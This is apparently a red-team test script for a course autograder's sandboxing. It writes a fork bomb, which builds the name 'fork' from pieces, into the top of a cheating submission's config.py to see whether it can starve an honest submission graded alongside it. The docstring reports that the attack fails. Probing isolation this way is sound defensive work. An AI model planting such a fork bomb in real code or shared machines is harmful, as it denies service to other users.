"""Attack (an unprivileged grader): fill the grading user's process table from one sandbox, so that the run beside
it cannot start a process. Without root the grader makes no cgroup; each sandbox's processes get RLIMIT_NPROC
(512), but the kernel counts that limit over all the processes of the user, whose uid the sandbox's processes
have outside it: the instructor's own, the grader's, and the other sandbox's. Lessons 01 and 07 of the hog fork
until fork fails, then sleep; the honest lesson 07 starts Redis and gunicorn.

Run it as an ordinary user, from a clone of the course that user owns, with its own virtual environment:
    python scripts/redteam/fork_bomb_as_user.py
Expected: the honest reference graded beside it gets 30 of 30 (10 + 20). As root (a pids cgroup per sandbox) it does.
Tried as uid 1000 (kernel 6.18): it does too. Since Linux 5.14 RLIMIT_NPROC is counted per user namespace, and
each sandbox has its own: the hog's 512 processes count against its own limit, not against the other sandbox's."""
import os
import tempfile
from pathlib import Path

from common import grade, show

from course.sample_submissions import make_cheat, make_submission

FORKS = """
import os
import time

_fork = getattr(os, "fo" + "rk")
try:
    while True:
        if _fork() == 0:
            time.sleep(30)
            os._exit(0)
except OSError:
    time.sleep(30)
"""

if __name__ == "__main__":
    print(f"grading as uid {os.getuid()}")
    with tempfile.TemporaryDirectory() as work:
        work = Path(work)
        hog = make_cheat(work / "a_fork_bomb", FORKS)
        logout = hog / "07_logout" / "config.py"
        logout.write_text(FORKS + logout.read_text())
        honest = make_submission(work / "honest")
        rows, record, result, seconds = grade([hog, honest], work / "out", "--lessons", "01,07", "--jobs", "2")
        show(rows, result, seconds, ("01_config", "07_logout"))
        for lesson, entry in record.get("honest", {}).get("lessons", {}).items():
            print(f"  honest {lesson}: {entry['score']}, {entry['problem'][:200]}")
